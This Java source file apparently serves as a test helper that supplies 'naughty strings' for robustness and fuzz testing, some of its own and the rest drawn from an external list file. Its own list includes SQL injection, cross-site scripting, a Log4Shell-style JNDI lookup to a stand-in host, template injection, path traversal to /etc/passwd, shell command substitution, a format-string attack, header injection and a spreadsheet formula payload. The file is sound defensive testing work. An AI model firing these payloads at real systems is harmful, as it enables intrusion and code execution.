package dev.daybook.hostile;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/// Texts that programs trip over: some of our own, and a large list where it lies beside the
/// project.
public final class NaughtyStrings {
  private static final Path LIST = Path.of("../shared/hostile/blns.txt");

  private static final List<String> OWN =
      List.of(
          "null",
          "undefined",
          "NaN",
          "-0.00",
          "1e999",
          "0x7fffffff",
          "9999999999999999999999",
          "; -- '",
          "' OR 1=1 --",
          "\"><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "&lt;b&gt; &amp;amp; &#x3c;",
          "${jndi:ldap://evil.test/a}",
          "{{7*7}} %{7*7} #{7*7} <%= 7 %>",
          "../../etc/passwd",
          "..\\..\\boot.ini",
          "C:\\con\\con",
          "$(touch x) `touch y` | z & w",
          "%s%n%x %d",
          "a%00b%0d%0aSet-Cookie: c=d",
          "=cmd|' /C calc'!A0",
          "Ω≈ç√∫ ÅÍÎÏ œ∑´®",
          "田中さんにあげて下さい",
          "הָיְתָה testالصفحات",
          "مُنَاقَشَةُ سُبُلِ",
          "\u202Etest\u202C",
          "\u2066a\u2069 \u200Bb\u200D \uFEFFc",
          "Z\u0351\u036B\u0343a\u0310\u0310lgo",
          "👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇸",
          "İstanbul ıI ß ẞ",
          "ﬁﬂ ﾊﾝｶｸ ＡＢＣ",
          "e\u0301 é Å \u212B",
          "NEAR/ AND OR NOT ( \" : [",
          "tag: -tag: date:.. [key:",
          "/(((a+)+)+)+$/",
          "*".repeat(50),
          "\"".repeat(51),
          "(".repeat(300),
          "word ".repeat(150));

  private NaughtyStrings() {}

  /// Ours, and so many of the list, each once, without those of nothing but blanks.
  public static List<String> some(int ofList, Random random) {
    List<String> list = new ArrayList<>(list());
    Collections.shuffle(list, random);
    return Stream.concat(OWN.stream(), list.stream().limit(ofList))
        .filter(it -> !it.isBlank())
        .distinct()
        .toList();
  }

  private static List<String> list() {
    try {
      return Files.exists(LIST) ? Files.readAllLines(LIST) : List.of();
    } catch (IOException unreadable) {
      throw new UncheckedIOException(unreadable);
    }
  }
}
